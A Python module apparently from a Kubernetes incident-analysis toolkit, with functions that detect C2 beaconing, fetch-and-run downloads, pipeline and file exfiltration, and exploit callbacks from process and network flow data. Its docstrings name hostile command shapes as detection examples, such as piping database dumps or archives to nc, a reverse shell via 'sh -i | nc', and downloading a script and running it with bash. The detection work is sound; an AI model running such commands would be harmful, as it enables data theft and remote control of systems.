"""What an incident's outside addresses were: their names, and the part each played.

Small functions of plain polars frames and the engine's ``info`` (exec id → process row) that
:mod:`kernelsec_nb.findings._incident` uses for an incident's endpoints and key command:

* :func:`dns_answers` / :func:`name_for` — an address's name from the DNS answer its pod got
  just before it connected (Hubble's DNS flows carry the query and the answered addresses);
* :func:`beacon` — a line connecting again and again to one address (a C2 beacon);
* :func:`fetch_pipe` — ``curl … | sh``: a sibling interpreter ran what the fetcher fetched;
* :func:`pipe_sink` — ``pg_dump | gzip | nc …``: the connecting process is the end of a pipeline
  whose earlier members produced what it sent (exfiltration);
* :func:`exfil_senders` — a process that connected out naming in its arguments a file its line
  had just written (an archive of secrets sent to a bucket): the data left, whatever the address;
* :func:`service_callbacks` — the outside addresses a service process reached for the first time
  just before it started the incident's entry (an exploit's callback and payload download).

Examples
--------
>>> f = pl.DataFrame({"time_ns": [5], "src_namespace": ["kube-system"], "src_pod": ["dns-0"],
...                   "dst_namespace": ["a"], "dst_pod": ["web"], "dns_query": ["ex.com."],
...                   "dns_ips": [["6.6.6.6"]], "is_reply": [True]})
>>> name_for(dns_answers(f), "a", "web", "6.6.6.6", 9)
'ex.com'
"""

from __future__ import annotations

import re
from typing import Any

import polars as pl

NS = 1_000_000_000

#: Interpreters that run a program read from their standard input (``… | sh``).
INTERPRETER = re.compile(r"^((ba|da|z|k|a|mk)?sh|busybox|python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*|node|lua[0-9.]*)$")
_ANSWERS = {"namespace": pl.String, "pod": pl.String, "ip": pl.String, "name": pl.String, "time_ns": pl.Int64}


def dns_answers(flows: pl.DataFrame) -> pl.DataFrame:
    """One row per (asking pod, answered address, name, time) of the DNS answers in ``flows``.

    A reply goes to the pod that asked (``dst_*``); a request row with answers (some exports put
    them there) to its source.  Columns ``namespace``, ``pod``, ``ip``, ``name`` (no trailing dot),
    ``time_ns``; empty when the flows carry no DNS answers."""
    need = {"dns_ips", "dns_query", "time_ns"}
    if flows.height == 0 or not need <= set(flows.columns):
        return pl.DataFrame(schema=_ANSWERS)
    f = flows.filter(pl.col("dns_ips").is_not_null() & pl.col("dns_query").is_not_null())
    if f.height == 0:
        return pl.DataFrame(schema=_ANSWERS)

    def col(c: str) -> pl.Expr:
        return pl.col(c).cast(pl.String) if c in f.columns else pl.lit(None, pl.String)

    reply = pl.col("is_reply").fill_null(False) if "is_reply" in f.columns else pl.lit(False)
    return f.select(
        pl.when(reply).then(col("dst_namespace")).otherwise(col("src_namespace")).alias("namespace"),
        pl.when(reply).then(col("dst_pod")).otherwise(col("src_pod")).alias("pod"),
        pl.col("dns_ips").alias("ip"),
        pl.col("dns_query").str.strip_chars_end(".").str.to_lowercase().alias("name"),
        pl.col("time_ns").cast(pl.Int64)).explode("ip").filter(pl.col("ip").is_not_null()).sort("time_ns")


def name_for(answers: pl.DataFrame, namespace: str | None, pod: str | None, ip: str, t: int | None) -> str | None:
    """The name ``ip`` had for the pod: its most recent DNS answer mapping a name to ``ip`` at or
    before ``t`` (the lookup the connection followed); else the latest answer any pod got for
    ``ip``; ``None`` when no answer named it."""
    a = answers.filter(pl.col("ip") == ip)
    if a.height == 0:
        return None
    mine = a.filter((pl.col("pod") == (pod or "")) & (pl.col("namespace").fill_null("") == (namespace or ""))
                    & (pl.col("time_ns") <= (t if t is not None else 2**62)))
    pick = mine if mine.height else a
    return pick.sort("time_ns")["name"][-1]


def beacon(flows: pl.DataFrame, exec_ids: list[str], ip: str, port: int | None, runs: int, gap_ns: int) -> bool:
    """Whether the processes ``exec_ids`` (a line) opened at least ``runs`` connections to
    ``ip:port`` at least ``gap_ns`` apart: a beacon calling home on a schedule (a C2).

    A connection opens at a flow with a SYN and no ACK; flows without TCP flags each count."""
    if flows.height == 0 or not {"exec_id", "dst_ip", "dst_port", "time_ns"} <= set(flows.columns):
        return False
    f = flows.filter(pl.col("exec_id").is_in(exec_ids) & (pl.col("dst_ip").cast(pl.String) == ip)
                     & (pl.col("dst_port").cast(pl.Int64) == (port if port is not None else -1)))
    if "is_reply" in f.columns:
        f = f.filter(~pl.col("is_reply").fill_null(False))
    if "tcp_flags" in f.columns:
        flags = pl.col("tcp_flags").fill_null("")
        f = f.filter((flags == "") | (flags.str.contains("SYN") & ~flags.str.contains("ACK")))
    times = sorted(t for t in f["time_ns"].to_list() if t is not None)
    opened, last = 0, None
    for t in times:
        if last is None or t - last >= gap_ns:
            opened += 1
            last = t
    return opened >= runs


def fetch_pipe(x: str, ids: list[str], info: dict[str, Any], window_ns: int) -> bool:
    """Whether ``x`` fed an interpreter: a sibling of ``x`` (same parent) started within
    ``window_ns`` of it is a shell or script interpreter given no script (``curl … | sh``), so it
    ran what ``x`` fetched (a download, T1105)."""
    r = info.get(x, {})
    parent, start = r.get("parent_exec_id"), r.get("start_ns") or 0
    if parent is None:
        return False
    for y in ids:
        o = info.get(y, {})
        if y == x or o.get("parent_exec_id") != parent or abs((o.get("start_ns") or 0) - start) > window_ns:
            continue
        name = str(o.get("binary") or "").rsplit("/", 1)[-1]
        args = str(o.get("args") or "").split()
        if INTERPRETER.match(name) and all(a.startswith("-") for a in args):
            return True
    return False


def _order(r: dict[str, Any]) -> tuple[int, int]:
    """A process's place among its siblings: its pid (a shell forks a pipeline's members left to
    right, so their pids rise; their execs may not come in that order), then its start."""
    return (int(r.get("pid") or 0), int(r.get("start_ns") or 0))


def pipe_sink(x: str, t: int, ids: list[str], info: dict[str, Any], window_ns: int, outward: set[str]) -> bool:
    """Whether ``x``, which connected out at ``t``, is the end of a pipeline that sent out what its
    earlier members produced (``pg_dump … | gzip | perl -MIO::Socket …``, ``tar c … | nc …``):
    siblings of ``x`` (same parent, started within ``window_ns`` of it) forked before it (lower
    pid; the start time when no pid is known) and still running when it started (a pipeline's
    members run together; ``curl … && chmod … && ./x`` is a sequence; no exit seen is still
    running, but not on a node whose processes' exits the capture has none of — ``node_exits``
    false: Inspektor Gadget writes none — where which ran together is unknown), and none of them

    * an interpreter given no script (``cat f | sh -i | nc …``: a shell's own output piped out is
      a reverse shell, a channel driven from there, not data),
    * a process with a child started after ``t`` (driven through the connection),
    * a process of ``outward`` (one that itself connected out: a relay passes on what it fetched).

    The upstream members are named by their place in the process tree, not by a list of tools;
    a pipeline of data *into* the network process is its whole test (bytes per direction are
    not in the flows)."""
    r = info.get(x, {})
    parent, start = r.get("parent_exec_id"), r.get("start_ns") or 0
    if parent is None:
        return False
    by_pid = r.get("pid") is not None
    up = [y for y in ids if y != x and info.get(y, {}).get("parent_exec_id") == parent
          and abs((info.get(y, {}).get("start_ns") or 0) - start) <= window_ns
          and (_order(info[y]) < _order(r) if by_pid else (info[y].get("start_ns") or 0) < start)
          and (info[y]["exit_ns"] > start if info[y].get("exit_ns") is not None
               else info[y].get("node_exits") is not False)]
    if not up:
        return False
    for y in up:
        o = info[y]
        name = str(o.get("binary") or "").rsplit("/", 1)[-1]
        if INTERPRETER.match(name) and all(a.startswith("-") for a in str(o.get("args") or "").split()):
            return False
        if y in outward:
            return False
    return not any(info.get(z, {}).get("parent_exec_id") in up and (info[z].get("start_ns") or 0) > t for z in ids)


def interpreted(tokens: set[str], later: list[dict[str, Any]]) -> bool:
    """Whether a process of ``later`` (process rows) is an interpreter (:data:`INTERPRETER`) whose
    script — its first argument that is no option — is a path among ``tokens`` (the arguments of
    a process that connected out): ``curl -sL http://x/s.sh -o /tmp/s.sh`` then ``bash /tmp/s.sh``
    ran what was fetched (a download), though no hook saw the file written.  A later process that
    only names the path (``rm /tmp/s.sh``, ``cat``) is none.

    >>> interpreted({"-o", "/tmp/s.sh", "http://x/s.sh"}, [{"binary": "/bin/bash", "args": "/tmp/s.sh"}])
    True
    >>> interpreted({"-T", "/tmp/a"}, [{"binary": "/bin/rm", "args": "-f /tmp/a"}, {"binary": "/bin/sh", "args": "-c id"}])
    False
    """
    paths = {t.strip("'\"") for t in tokens if t.strip("'\"").startswith("/")}
    if not paths:
        return False
    for r in later:
        name = str(r.get("binary") or "").rsplit("/", 1)[-1]
        script = next((a for a in str(r.get("args") or "").split() if not a.startswith("-")), None)
        if INTERPRETER.match(name) and script is not None and script.strip("'\"") in paths:
            return True
    return False


def _path(file_node: str) -> str:
    """The path of a ``file:<scope>:<path>`` node (a host scope is ``node:<node>``)."""
    rest = file_node.removeprefix("file:")
    if rest.startswith("node:"):
        rest = rest[5:]
    return rest.split(":", 1)[1] if ":" in rest else rest


def names_path(tokens: set[str], path: str) -> bool:
    """Whether one of the argument ``tokens`` names ``path``: the token itself, or its end after
    ``@`` or ``=`` (``--data-binary @/tmp/a``, ``-F f=@/tmp/a``, ``--upload-file=/tmp/a``), quotes
    stripped.

    >>> names_path({"-X", "POST", "--data-binary", "'@/tmp/s.json'"}, "/tmp/s.json")
    True
    >>> names_path({"/tmp/s.json.bak", "x/tmp/s.json"}, "/tmp/s.json")
    False
    """
    for tok in tokens:
        tok = tok.strip("'\"")
        if tok == path or (tok.endswith(path) and tok[-len(path) - 1] in "@="):
            return True
    return False


#: The ports the Kubernetes API server listens on (its own, and the ``kubernetes`` Service's).
API_PORTS = (443, 6443)


def exfil_senders(ids: list[str], info: dict[str, Any], edge: pl.DataFrame, write: str, connect: str,
                  api_server: str | None = None) -> set[str]:
    """Processes of ``ids`` that connected out of the cluster (an ``ext:`` destination) and whose
    arguments name a file another process of ``ids`` wrote before it started (``write`` edges;
    :func:`names_path`: ``curl --data-binary @/tmp/a`` names ``/tmp/a``):
    the line made the file and this process sent it out — exfiltration, whatever the address (a
    bucket endpoint the workload also uses all day is still where the data went).  A file of
    another pod is not that file (two replicas write the same path: the second's download names
    the path the first wrote); a host's file, or one of a process whose pod is unknown, is.  The
    Kubernetes API server is no such address: a process that called it (an ``api_server`` edge)
    sent its file there on an API port (:data:`API_PORTS`) — ``kubectl create -f`` a manifest it
    wrote deploys, and what it deployed is the act."""
    if edge.height == 0:
        return set()
    pids = ["proc:" + x for x in ids]
    wrote = edge.filter((pl.col("kind") == write) & pl.col("src").is_in(pids) & pl.col("dst").str.starts_with("file:"))
    if wrote.height == 0:
        return set()
    out = edge.filter((pl.col("kind") == connect) & pl.col("src").is_in(pids) & pl.col("dst").str.starts_with("ext:"))
    if api_server is not None:
        callers = edge.filter((pl.col("kind") == api_server) & pl.col("src").is_in(pids))["src"].implode()
        port = pl.col("dst").str.extract(r":(\d+)$").cast(pl.Int64, strict=False)
        out = out.filter(~(pl.col("src").is_in(callers) & port.is_in(list(API_PORTS))).fill_null(False))
    found = set()
    for src in out["src"].unique().to_list():
        x = src[5:]
        r = info.get(x, {})
        tokens = set(str(r.get("args") or "").split())
        start = r.get("start_ns") or 0
        pod = r.get("pod")
        mine = f"file:{r.get('namespace') or ''}/{pod}:" if pod else None
        for w, f, t in wrote.select("src", "dst", "time_ns").iter_rows():
            other_pod = mine is not None and not f.startswith("file:node:") and not f.startswith(mine)
            if w != src and not other_pod and names_path(tokens, _path(f)) and (t or 0) < start:
                found.add(x)
    return found


def service_callbacks(parent: str | None, start_ns: int | None, edge: pl.DataFrame, window_ns: int,
                      connect: str) -> list[tuple[str, int, str]]:
    """(``ext:`` node, first time, role) of the outside addresses the service process ``parent``
    first connected to in the ``window_ns`` before it started the entry at ``start_ns``: what an
    exploited server fetched to run it (a JNDI lookup's LDAP callback, then the class it loads).
    The last is the ``download`` (what ran came from it), the earlier ones ``callback``; an address
    the service had reached before the window (its usual destinations) is left out."""
    if parent is None or start_ns is None or edge.height == 0:
        return []
    e = edge.filter((pl.col("src") == "proc:" + parent) & (pl.col("kind") == connect)
                    & pl.col("dst").str.starts_with("ext:"))
    e = e.group_by("dst").agg(pl.col("time_ns").min()).filter(
        pl.col("time_ns").is_between(start_ns - window_ns, start_ns)).sort("time_ns")
    rows = e.rows()
    return [(d, t, "download" if i == len(rows) - 1 and len(rows) > 1 else "callback")
            for i, (d, t) in enumerate(rows)]


__all__ = ["INTERPRETER", "beacon", "dns_answers", "exfil_senders", "fetch_pipe", "interpreted", "name_for", "names_path", "pipe_sink",
           "service_callbacks"]
